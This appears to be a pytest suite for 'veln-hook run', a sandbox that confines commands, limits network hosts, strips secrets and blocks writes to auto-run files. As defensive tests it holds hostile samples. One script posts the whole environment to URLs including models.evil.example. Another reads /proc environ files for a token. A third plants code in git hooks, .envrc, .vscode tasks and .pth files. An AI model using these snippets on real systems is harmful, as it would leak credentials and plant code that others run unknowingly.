"""``veln-hook run``: any command, really confined, in every way that this machine allows."""

from __future__ import annotations

import contextlib
import json
import os
import pty
import re
import select
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from confined import PATIENCE

from support import envs
from veln_hook.sandbox import layout
from veln_hook.sandbox.interface import Rung

if TYPE_CHECKING:
    from collections.abc import Iterator

HERE = Path(__file__).parent
SRC = str(HERE.parents[1] / "src")
TOKEN = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
LAID_OUT = (Rung.NAMESPACES, Rung.BUBBLEWRAP)
"""Where a part of a writable directory can be kept from being written."""
READY_THEN_42 = (
    "import signal, sys\n"
    "signal.signal(signal.SIGTERM, lambda *_: sys.exit(42))\n"
    "print('ready', flush=True)\n"
    "signal.pause()"
)


class Command:
    """``veln-hook run`` with a home and a project of its own."""

    def __init__(self, rung: Rung, root: Path) -> None:
        self.rung = rung
        self.home, self.project = root / "home", root / "home" / "project"
        self.project.mkdir(parents=True)
        kept = ("PATH", "LANG", "TMPDIR")
        self.environ = {name: os.environ[name] for name in kept if name in os.environ}
        self.environ.update(HOME=str(self.home), PYTHONPATH=SRC, TERM="dumb")

    def argv(self, *arguments: str, names: dict | None = None) -> list[str]:
        settings = json.dumps({"rung": self.rung.value, "names": names})
        return [sys.executable, str(HERE / "drive_run.py"), settings, *arguments]

    def run(
        self,
        *arguments: str,
        names: dict | None = None,
        stdin: bytes = b"",
        cwd: Path | None = None,
        **environ,
    ):
        return subprocess.run(
            self.argv(*arguments, names=names),
            input=stdin,
            capture_output=True,
            cwd=cwd or self.project,
            env={**self.environ, **environ},
            timeout=4 * PATIENCE,
            check=False,
        )

    def python(self, code: str, *options: str, **more):
        return self.run(*options, "--", sys.executable, "-I", "-c", code, **more)

    def start(self, *arguments: str, **options):
        return subprocess.Popen(self.argv(*arguments), cwd=self.project, env=self.environ, **options)


@pytest.fixture
def command(rung: Rung, tmp_path: Path) -> Command:
    return Command(rung, tmp_path)


# --- as if nobody stood between ----------------------------------------------------------------------------


@pytest.mark.parametrize("status", [0, 1, 3, 78, 255])
def test_the_exit_status_is_the_command_s(command, status):
    done = command.run("--", "sh", "-c", f"exit {status}")
    assert (done.returncode, done.stdout, done.stderr) == (status, b"", b"")


@pytest.mark.parametrize("name", ["TERM", "INT", "KILL", "SEGV", "PIPE"])
def test_it_dies_by_the_signal_that_the_command_died_by(command, name):
    done = command.run("--", "sh", "-c", f"kill -{name} $$")
    assert done.returncode == -signal.Signals[f"SIG{name}"]


def test_a_missing_program_and_one_that_cannot_run(command):
    assert command.run("--", "no-such-program").returncode == 127
    (command.project / "text").write_text("text")
    assert command.run("--", "./text").returncode == 126


def test_streams_pass_unchanged_and_nothing_is_added(command):
    everything = bytes(range(256)) * 4096
    done = command.run("cat", stdin=everything)
    assert (done.stdout, done.stderr) == (everything, b"")
    done = command.run("--", "sh", "-c", "printf told >&2; printf out", "--json", "-q")
    assert (done.stdout, done.stderr) == (b"out", b"told")


def test_a_signal_reaches_the_command(command):
    with command.start(
        "--", sys.executable, "-I", "-S", "-c", READY_THEN_42, stdout=subprocess.PIPE
    ) as running:
        assert running.stdout.readline() == b"ready\n"
        running.send_signal(signal.SIGTERM)
        assert running.wait(PATIENCE) == 42


def test_nothing_is_left_when_we_are_killed(command):
    endless = "echo ready; (setsid sleep 1000 &); exec sleep 1000"
    with command.start("--", "sh", "-c", endless, stdout=subprocess.PIPE) as running:
        assert running.stdout.readline() == b"ready\n"
        running.kill()
        # Whoever is left holds the other end of this pipe.
        assert select.select([running.stdout], [], [], PATIENCE)[0]
        assert running.stdout.read() == b""


def test_it_ends_in_time(command):
    done = command.run("--timeout", "0.5", "--", "sleep", "1000")
    assert (done.returncode, done.stderr) == (124, b"veln-hook: it took longer than 0.5 s and was ended\n")


class Terminal:
    """A terminal with a real shell, which runs commands as its jobs."""

    def __init__(self, command: Command) -> None:
        self.output = b""
        self.pid, self.master = pty.fork()
        if self.pid == 0:
            os.chdir(command.project)
            os.execve("/bin/bash", ["bash", "--norc", "--noprofile", "-i"], command.environ)

    def type(self, text: str) -> None:
        os.write(self.master, text.encode())

    def wait_for(self, text: str) -> None:
        """Wait until something new on the screen holds a text."""
        deadline = time.monotonic() + PATIENCE
        while text.encode() not in self.output:
            assert time.monotonic() < deadline, self.output
            if select.select([self.master], [], [], 0.1)[0]:
                self.output += os.read(self.master, 4096)
        self.output = self.output.partition(text.encode())[2]

    def close(self) -> None:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(self.pid, signal.SIGHUP)
        os.close(self.master)
        os.waitpid(self.pid, 0)


@pytest.fixture
def terminal(command):
    opened = Terminal(command)
    yield opened
    opened.close()


def shell_words(argv: list[str]) -> str:
    return " ".join("'" + word.replace("'", "'\\''") + "'" for word in argv)


def test_a_key_interrupts_the_command_once_and_us_not(command, terminal):
    code = (
        "import signal, sys, time\n"
        "got = []\n"
        "signal.signal(signal.SIGINT, lambda *_: got.append(1))\n"
        "print('rea' + 'dy', sys.stdin.isatty(), open('/dev/tty').isatty(), flush=True)\n"
        "while not got: time.sleep(0.01)\n"
        "time.sleep(0.2)\n"
        "sys.exit(10 + len(got))"
    )
    terminal.type(shell_words(command.argv("--", sys.executable, "-I", "-c", code)) + "; echo st''atus $?\n")
    terminal.wait_for("ready True True")
    terminal.type("\x03")
    terminal.wait_for("status 11")


def test_a_job_is_suspended_and_goes_on(command, terminal):
    words = command.argv("--", "sh", "-c", "echo re''ady; read line; echo got $line; exit 5")
    terminal.type(shell_words(words) + "; echo st''atus $?\n")
    terminal.wait_for("ready")
    terminal.type("\x1a")
    terminal.wait_for("Stopped")
    terminal.type("fg\n")
    terminal.type("typed\n")
    terminal.wait_for("got typed")


# --- the network -------------------------------------------------------------------------------------------


class Server:
    """A server on loopback that speaks TLS, and keeps what it was sent."""

    def __init__(self, directory: Path, address: str, subject: str) -> None:
        self.certificate = directory / f"{address}.pem"
        key = directory / f"{address}.key"
        subprocess.run(
            [
                *(
                    "openssl",
                    "req",
                    "-x509",
                    "-newkey",
                    "ec",
                    "-pkeyopt",
                    "ec_paramgen_curve:P-256",
                    "-nodes",
                ),
                *("-days", "2", "-subj", "/CN=test", "-addext", f"subjectAltName={subject}"),
                *("-keyout", str(key), "-out", str(self.certificate)),
            ],
            check=True,
            capture_output=True,
        )
        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._context.load_cert_chain(self.certificate, key)
        self.received: list[bytes] = []
        self.accepted = 0
        self._listener = socket.create_server((address, 0))
        self.port = self._listener.getsockname()[1]
        self._thread = threading.Thread(target=self._serve)
        self._thread.start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                plain, _ = self._listener.accept()
                self.accepted += 1
                plain.settimeout(PATIENCE)
                with contextlib.suppress(OSError), self._context.wrap_socket(plain, server_side=True) as sock:
                    self.received.append(sock.recv(65536))
                    sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello")

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join()


@pytest.fixture
def make_server(tmp_path):
    with contextlib.ExitStack() as stack:

        def make(address: str, subject: str) -> Server:
            made = Server(tmp_path, address, subject)
            stack.callback(made.close)
            return made

        yield make


# What anybody writes who fetches something; it says which certificate it met, and what came of the others.
FETCH = """
import ssl, sys, urllib.request
for url in sys.argv[2:]:
    try:
        context = ssl.create_default_context(cafile=sys.argv[1])
        with urllib.request.urlopen(url, timeout=20, context=context) as answer:
            print(answer.status, answer.read().decode())
    except OSError as error:
        print("no", error)
"""


def fetch(command: Command, server: Server, options: list[str], *urls: str, **more):
    """Fetch with the server's certificate as the only one that is trusted: nobody can stand in for it."""
    (command.project / "ca.pem").write_bytes(server.certificate.read_bytes())
    return command.run(*options, "--", sys.executable, "-I", "-c", FETCH, "ca.pem", *urls, **more)


def test_an_allowed_name_is_reached_over_tls_and_nothing_else(command, make_server):
    wanted, other = make_server("127.0.0.1", "DNS:allowed.test"), make_server("127.0.0.2", "DNS:other.test")
    done = fetch(
        command,
        wanted,
        ["--allow", "allowed.test"],
        "https://allowed.test/path",
        "https://other.test/",
        f"https://127.0.0.2:{other.port}/",
        f"https://127.0.0.1:{wanted.port}/",
        names={"allowed.test": ("127.0.0.1", wanted.port), "other.test": ("127.0.0.2", other.port)},
    )
    answers = done.stdout.decode().splitlines()
    assert answers[0] == "200 hello"
    assert [answer[:3] for answer in answers[1:]] == ["no "] * 3
    assert len(wanted.received) == 1
    assert wanted.received[0].startswith(b"GET /path HTTP/1.1\r\n")
    assert (wanted.accepted, other.accepted) == (1, 0)
    told = done.stderr.decode()
    assert re.search(r"^  other\.test +443 +1x +python", told, re.MULTILINE), told
    assert "--allow other.test" in told
    assert "allowed.test " not in told


# pip brings requests along, so it is at hand without a network.
REQUESTS = """
try:
    import requests
except ImportError:
    from pip._vendor import requests
import sys
for trust_env, *urls in (True, *sys.argv[1:]), (False, sys.argv[1]):
    session = requests.Session()
    session.trust_env = trust_env  # with it, proxies and REQUESTS_CA_BUNDLE are looked up
    session.verify = trust_env or "ca.pem"
    for url in urls:
        try:
            answer = session.get(url, timeout=20)
            print(answer.status_code, answer.text.strip())
        except (requests.ConnectionError, OSError) as error:
            print("no", type(error).__name__)
"""


@pytest.fixture(scope="module")
def installed_requests(tmp_path_factory) -> str:
    """The interpreter of a virtual environment with the newest requests."""
    home = envs.Home(tmp_path_factory.mktemp("requests"))
    env = envs.fresh_env(home.path / "venv", envs.newest_pair(), home, hooked=False)
    env.run_pip("install", "requests", online=True, check=True)
    return str(env.python)


@pytest.mark.parametrize("which", ["vendored", pytest.param("installed", marks=pytest.mark.online)])
def test_requests_reaches_an_allowed_host_over_tls_untouched_and_nothing_else(
    command, make_server, request, which
):
    python = sys.executable if which == "vendored" else request.getfixturevalue("installed_requests")
    if (
        which == "vendored"
        and subprocess.run([python, "-c", "import pip._vendor.requests"], check=False).returncode
    ):
        pytest.skip("this Python has no pip that brings requests along")
    wanted, other = make_server("127.0.0.1", "DNS:allowed.test"), make_server("127.0.0.2", "DNS:other.test")
    # Each trusts one certificate only, the server's own: whoever opened TLS in between would be noticed.
    company = command.home / "company-ca.pem"
    for place in (company, command.project / "ca.pem"):
        place.write_bytes(wanted.certificate.read_bytes())
    urls = [
        "https://allowed.test/path?query",
        "https://other.test/",
        "http://other.test/",
        f"https://127.0.0.2:{other.port}/",
        f"https://127.0.0.1:{wanted.port}/",
        "https://8.8.8.8/",
    ]
    done = command.run(
        *("--allow", "allowed.test", "--", python, "-I", "-c", REQUESTS, *urls),
        names={"allowed.test": ("127.0.0.1", wanted.port), "other.test": ("127.0.0.2", other.port)},
        REQUESTS_CA_BUNDLE=str(company),
    )
    answers = done.stdout.decode().splitlines()
    directly = "no ConnectionError" if command.rung is Rung.BUBBLEWRAP else "200 hello"  # see below
    assert (answers[0], answers[-1]) == ("200 hello", directly), done.stderr
    assert [answer[:3] for answer in answers[1:-1]] == ["no ", "403", "no ", "no ", "no "]
    times = 1 if command.rung is Rung.BUBBLEWRAP else 2
    assert [text.partition(b"\r\n")[0] for text in wanted.received] == [b"GET /path?query HTTP/1.1"] * times
    assert all(b"User-Agent: python-requests/" in text for text in wanted.received)
    assert (wanted.accepted, other.accepted) == (times, 0)
    assert b"--allow other.test" in done.stderr


def test_a_program_that_knows_no_proxy_reaches_an_allowed_name(command, make_server):
    if command.rung is Rung.BUBBLEWRAP:
        pytest.skip("no port below 1024 can be had in there, so names lead nowhere")
    server = make_server("127.0.0.1", "DNS:allowed.test")
    code = (
        "import http.client, ssl\n"
        "for name in ('allowed.test', 'other.test'):\n"
        "    try:\n"
        "        context = ssl.create_default_context(cafile='ca.pem')\n"
        "        met = http.client.HTTPSConnection(name, timeout=20, context=context)\n"
        "        met.request('GET', '/')\n"
        "        print(met.getresponse().read().decode())\n"
        "    except OSError as error: print('no')"
    )
    (command.project / "ca.pem").write_bytes(server.certificate.read_bytes())
    names = dict.fromkeys(("allowed.test", "other.test"), ("127.0.0.1", server.port))
    done = command.python(code, "--allow", "allowed.test", names=names)
    assert done.stdout == b"hello\nno\n", done.stderr
    assert server.accepted == 1
    assert b"other.test" in done.stderr


def test_an_address_that_is_allowed_is_reached(command, make_server):
    server = make_server("127.0.0.2", "IP:127.0.0.2")
    options = ["--allow", f"127.0.0.2:{server.port}"]
    done = fetch(command, server, options, f"https://127.0.0.2:{server.port}/")
    assert (done.stdout, done.stderr, done.returncode) == (b"200 hello\n", b"", 0)


def test_hosts_of_the_policy_are_reached(command, make_server):
    server = make_server("127.0.0.2", "IP:127.0.0.2")
    policy = command.home / ".config" / "veln-hook" / "policy.toml"
    policy.parent.mkdir(parents=True)
    policy.write_text(f'[sandbox]\nallow_hosts = ["127.0.0.2:{server.port}"]\n')
    done = fetch(command, server, [], f"https://127.0.0.2:{server.port}/")
    assert (done.stdout, done.stderr) == (b"200 hello\n", b"")


def test_a_package_index_is_never_reached(command):
    code = "import urllib.request; urllib.request.urlopen('https://pypi.org/simple/')"
    done = command.python(code, "--allow", "pypi.org")
    assert done.returncode == 1
    assert b"403 veln-hook: pypi.org is a package index" in done.stderr
    assert (
        b"pypi.org is a package index: install beforehand, where it is judged; no option opens it"
        in done.stderr
    )


POST_EVERYWHERE = """
import json, os, socket, sys, urllib.request
body = json.dumps(dict(os.environ)).encode()
for url in sys.argv[1:]:
    for proxies in ({}, None):
        try:
            urllib.request.build_opener(urllib.request.ProxyHandler(proxies)).open(url, body, 10)
        except OSError:
            pass
print("goes on")
"""


def test_without_an_allowed_host_nothing_leaves_and_it_is_told(command, make_server):
    sink = make_server("127.0.0.1", "IP:127.0.0.1")
    urls = [
        f"https://127.0.0.1:{sink.port}/",
        f"https://localhost:{sink.port}/",
        "https://models.evil.example/v1",
    ]
    done = command.run("--", sys.executable, "-I", "-c", POST_EVERYWHERE, *urls)
    assert (done.returncode, done.stdout) == (0, b"goes on\n")
    assert sink.accepted == 0
    if command.rung is Rung.BUBBLEWRAP:
        return  # no port below 1024 can be had in there, so nobody is asked for names
    assert b"refused to let it reach" in done.stderr
    assert b"models.evil.example" in done.stderr
    assert b"--allow models.evil.example" in done.stderr


def test_quiet_tells_nothing_and_learn_a_policy(command):
    ask = (
        "import urllib.request\n"
        "for url in ('https://models.evil.example/', 'https://models.evil.example:8443/', 'https://pypi.org/'):\n"
        "    try: urllib.request.urlopen(url)\n"
        "    except OSError: pass"
    )
    assert command.python(ask, "-q").stderr == b""
    told = command.python(ask, "--learn", GITHUB_TOKEN=TOKEN).stderr.decode()
    assert '[sandbox]\nallow_hosts = ["models.evil.example", "models.evil.example:8443"]\n' in told
    assert "--env NAME gives: GITHUB_TOKEN" in told
    assert TOKEN not in told


def test_json_is_the_last_line_of_standard_error(command):
    code = (
        "import sys, urllib.request\n"
        "sys.stderr.write('unended')\n"
        "try: urllib.request.urlopen('https://evil.example/')\n"
        "except OSError: sys.exit(1)"
    )
    done = command.python(code, "--json", "-q", "--allow", "good.example", GITHUB_TOKEN=TOKEN)
    told = json.loads(done.stderr.splitlines()[-1])
    assert (told["schema"], told["command"], told["errors"]) == (1, "run", [])
    (result,) = told["results"]
    (refusal,) = result["refusals"]
    assert (refusal["host"], refusal["port"], refusal["allow"]) == ("evil.example", 443, "evil.example")
    assert (result["exit_status"], result["signal"], result["removed"]) == (1, None, ["GITHUB_TOKEN"])
    assert result["rung"] == command.rung.value


@pytest.mark.online
def test_a_host_of_the_internet_is_reached(command):
    try:
        socket.create_connection(("example.com", 443), 10).close()
    except OSError as error:
        pytest.skip(f"example.com can't be reached without us either: {error}")
    code = (
        "import urllib.request\n"
        "print(urllib.request.urlopen('https://example.com/').status)\n"
        "urllib.request.urlopen('https://www.python.org/')"
    )
    done = command.python(code, "--allow", "example.com")
    assert done.stdout == b"200\n"
    assert done.returncode == 1
    assert b"www.python.org" in done.stderr


# --- secrets and places ------------------------------------------------------------------------------------


def test_secrets_are_taken_out_of_the_environment_and_nowhere_to_be_found(command):
    look = (
        "import glob, os\n"
        "print(sorted(name for name in os.environ if name in ('GITHUB_TOKEN', 'DB_PASSWORD', 'PLAIN')))\n"
        "found = []\n"
        "for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/task/*/environ'):\n"
        "    try: found.append(open(path, 'rb').read())\n"
        "    except OSError: pass\n"
        f"print(any({TOKEN!r}.encode() in text for text in found))"
    )
    secrets = {"GITHUB_TOKEN": TOKEN, "DB_PASSWORD": "hunter2hunter2", "PLAIN": "plain"}
    assert command.python(look, **secrets).stdout == b"['PLAIN']\nFalse\n"
    kept = command.python(look, "--env", "DB_PASSWORD", **secrets).stdout
    assert kept == b"['DB_PASSWORD', 'PLAIN']\nFalse\n"


def test_a_failure_names_the_credentials_that_were_missing(command):
    done = command.run("--", "sh", "-c", "exit 4", GITHUB_TOKEN=TOKEN)
    assert done.stderr == b"veln-hook: it failed, and didn't get GITHUB_TOKEN; --env NAME gives one\n"
    assert command.run("--", "true", GITHUB_TOKEN=TOKEN).stderr == b""


def test_the_home_is_empty_and_its_secrets_are_opened_by_their_own_name_only(command):
    (command.home / ".aws").mkdir()
    (command.home / ".aws" / "credentials").write_text("secret")
    (command.home / ".aws" / "config").write_text("config")
    (command.home / "notes").write_text("notes")
    aws, notes = str(command.home / ".aws"), str(command.home / "notes")

    def readable(*options: str) -> list[str]:
        files = [notes, f"{aws}/credentials", f"{aws}/config"]
        done = command.run(
            *options, "--", "sh", "-c", 'for f; do cat "$f" 2>/dev/null && echo; done', "sh", *files
        )
        return done.stdout.decode().split()

    assert readable() == []
    assert readable("--read", notes) == ["notes"]
    assert readable("--read", str(command.home)) == ["notes"]
    assert readable("--read", aws) == ["secret", "config"]
    assert readable("--read", f"{aws}/config") == ["config"]


def test_it_writes_here_and_where_it_is_let(command, tmp_path):
    (tmp_path / "outside").mkdir()
    write = 'for place; do echo x > "$place/file"; done 2>/dev/null; ls -d "$HOME"'
    places = [str(command.project), str(tmp_path / "outside"), "/usr", str(command.home), "/tmp"]
    command.run("--", "sh", "-c", write, "sh", *places)
    assert (command.project / "file").exists()
    # In private places of its own it may write; what counts is what is there outside.
    assert not [place for place in places[1:] if Path(place, "file").exists()]
    command.run("--write", str(tmp_path / "outside"), "--", "sh", "-c", write, "sh", *places)
    assert (tmp_path / "outside" / "file").exists()


@pytest.fixture
def open_place(command) -> Iterator[Path]:
    """A project where nothing is hidden: not in a home, nor among the temporary directories."""
    candidates = [*map(Path, ("/opt", "/srv", "/var/lib", "/usr/local")), HERE]
    hidden = (*layout.PRIVATE_PLACES, os.path.expanduser("~"))
    places = [
        place for place in candidates if os.access(place, os.W_OK) and not layout.covers(hidden, str(place))
    ]
    if not places:
        pytest.skip("nothing outside of homes and temporary directories can be written")
    with tempfile.TemporaryDirectory(prefix="veln-hook-test-", dir=places[0]) as made:
        command.project = Path(made)
        yield command.project


@pytest.mark.parametrize("place", ["home", "open"])
def test_what_others_run_unasked_is_not_written(command, request, place):
    if command.rung not in LAID_OUT:
        pytest.skip("Landlock can't take a part out of what may be written (docs/cli.md)")
    if place == "open":
        request.getfixturevalue("open_place")
    subprocess.run(["git", "init", "-q", command.project], check=True, env=command.environ)
    for directory in (".vscode", "env"):
        (command.project / directory).mkdir()
    (command.project / "env" / "pyvenv.cfg").write_text("")
    (command.project / ".envrc").write_text("true\n")
    attack = (
        "for f in .git/hooks/post-checkout .git/commondir .vscode/tasks.json env/evil.pth; do echo evil > $f; done\n"
        "echo evil >> .git/config; echo evil >> .envrc\n"
        "mv .git .git2; rm -rf .git .vscode env .envrc; mkdir -p .git/hooks\n"
        "git status --short; echo x > written"
    )
    before = snapshot(command.project)
    done = command.run("--", "sh", "-c", f"({attack}) 2>/dev/null")
    assert b"?? .envrc" in done.stdout, done.stderr
    assert snapshot(command.project) == {**before, "written": "x\n"}
    command.run("--write", ".vscode", "--", "sh", "-c", "echo x > .vscode/settings.json")
    assert (command.project / ".vscode" / "settings.json").exists()


@pytest.mark.parametrize("place", ["home", "open"])
def test_what_it_changed_of_that_is_told(command, request, place):
    if place == "open":
        request.getfixturevalue("open_place")
    subprocess.run(["git", "init", "-q", command.project], check=True, env=command.environ)
    (command.project / ".vscode").mkdir()
    (command.project / ".venv" / "lib" / "python3.9" / "site-packages").mkdir(parents=True)
    (command.project / ".venv" / "pyvenv.cfg").write_text("")
    told = b"veln-hook: look at what it changed, since other programs run it: "
    assert command.run("--", "sh", "-c", "echo true > .envrc; echo x > code.py").stderr == told + b".envrc\n"
    assert command.run("--", "sh", "-c", "echo x > code.py").stderr == b""
    done = command.run(
        "--json",
        "--",
        "sh",
        "-c",
        "echo true > .git/hooks/post-commit; echo > .venv/lib/python3.9/site-packages/evil.pth; git status",
        cwd=command.project,
    )
    written = [".git/hooks/post-commit", ".venv/lib/python3.9/site-packages/evil.pth"]
    changed = [] if command.rung in LAID_OUT else written
    assert json.loads(done.stderr.splitlines()[-1])["results"][0]["changed"] == changed
    done = command.run("--write", ".vscode", "--", "sh", "-c", "echo x > .vscode/tasks.json")
    assert (done.stderr, (command.project / ".vscode" / "tasks.json").read_text()) == (b"", "x\n")


def snapshot(directory: Path) -> dict[str, str]:
    return {
        str(path.relative_to(directory)): path.read_text()
        for path in directory.rglob("*")
        if path.is_file() and path.name != "index"
    }


@pytest.mark.parametrize(
    "where, words",
    [("home", b"is your home"), ("home/.ssh", b"kept from confined commands"), ("/tmp", b"many programs")],
)
def test_some_places_are_nowhere_to_run_from(command, where, words):
    place = command.home.parent / where
    place.mkdir(exist_ok=True)
    done = command.run("--", "touch", str(command.project / "ran"), cwd=place)
    assert done.returncode != 0
    assert words in done.stderr
    assert not (command.project / "ran").exists()


def test_a_home_that_is_the_project_is_said_to_be_so(command):
    (command.home / ".netrc").write_text("secret")
    done = command.run("--write", ".", "--", "sh", "-c", "echo x > file; cat .netrc", cwd=command.home)
    assert b"secret" not in done.stdout
    if command.rung in LAID_OUT:  # elsewhere nothing can be made beside what is hidden
        assert (command.home / "file").exists()


# --- the whole command -------------------------------------------------------------------------------------


def veln_hook(command: Command, *arguments: str):
    return subprocess.run(
        [sys.executable, "-m", "veln_hook", *arguments],
        capture_output=True,
        cwd=command.project,
        env=command.environ,
        timeout=4 * PATIENCE,
        check=False,
    )


def test_the_strongest_way_is_taken(box, tmp_path):
    command = Command(box.rung, tmp_path / "own")
    done = veln_hook(command, "run", "--json", "--", "echo", "--json")
    assert (done.returncode, done.stdout) == (0, b"--json\n")
    assert json.loads(done.stderr)["results"][0]["argv"] == ["echo", "--json"]


def test_where_no_sandbox_works_nothing_is_run(command):
    if command.rung is not Rung.SUPERVISOR:
        pytest.skip("a sandbox can be made within this one")
    # Inside there is a supervisor already, and no namespaces to be had.
    ran = command.project / "ran"
    done = command.run("--read", SRC, "--", sys.executable, "-m", "veln_hook", "run", "--", "touch", str(ran))
    assert done.returncode == 78, done.stderr
    assert b"error: no sandbox works here, so nothing was run" in done.stderr
    assert not ran.exists()


@pytest.mark.parametrize("builds, status", [("auto", 1), ("require", 78)])
def test_the_doctor_where_no_sandbox_works(command, builds, status):
    if command.rung is not Rung.SUPERVISOR:
        pytest.skip("a sandbox can be made within this one")
    policy = ["--env", "VELN_HOOK_SANDBOX_BUILDS", "--read", SRC]
    doctor = [sys.executable, "-m", "veln_hook", "doctor", "--json"]
    done = command.run(*policy, "--", *doctor, VELN_HOOK_SANDBOX_BUILDS=builds)
    told = json.loads(done.stdout)
    (probe,) = (probe for probe in told["results"] if probe["name"] == "sandbox")
    assert done.returncode == status, done.stdout  # the hook isn't at work in the tests' own Python
    assert probe["ok"] is (False if builds == "require" else None)
    assert [error["slug"] for error in told["errors"]].count("sandbox") == (builds == "require")
    ways = [detail.partition(":")[0] for detail in probe["details"]]
    assert ways == ["namespaces", "bubblewrap", "netns-supervisor", "supervisor", "Landlock"]


def test_the_doctor_tells_which_way_is_taken(box, tmp_path):
    command = Command(box.rung, tmp_path / "own")
    (probe,) = (
        probe
        for probe in json.loads(veln_hook(command, "doctor", "--json").stdout)["results"]
        if probe["name"] == "sandbox"
    )
    assert probe["ok"] is True
    assert f"{box.rung.value}: works" in probe["details"]
